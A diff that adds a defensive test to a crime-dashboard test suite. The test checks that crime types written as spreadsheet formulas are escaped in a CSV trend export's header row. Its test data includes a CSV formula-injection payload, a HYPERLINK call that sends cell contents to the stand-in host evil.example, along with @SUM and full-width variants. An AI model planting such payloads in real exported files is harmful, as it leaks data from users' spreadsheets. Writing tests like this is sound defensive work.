@@ -128,3 +128,16 @@ def test_neighbourhood_dashboard_queries_do_not_grow_with_data(crimes, client_fo
         client.get(url)
 
     assert len(many) == len(few)
+
+
+def test_a_crime_type_written_as_a_formula_is_no_formula_in_the_trend_header(team, client_for, inspector):
+    """A crime type from an uploaded file becomes a column header: it is neutralised like a cell,
+    also behind leading spaces and in its full-width form."""
+    west = team.neighbourhoods.get()
+    for crime_type in ('=HYPERLINK("http://evil.example/?"&A1,"open")', "  @SUM(A1)", "\uff1d1+1"):
+        crime(west, "51.5101", "-0.0984", crime_type=crime_type, month=date(2024, 3, 1))
+    lines = trend(client_for(inspector), month="2024-03")
+    assert lines[:2] == [
+        'Month,\'  @SUM(A1),"\'=HYPERLINK(""http://evil.example/?""&A1,""open"")",\'\uff1d1+1,Total',
+        "2024-03,1,1,1,3",
+    ]
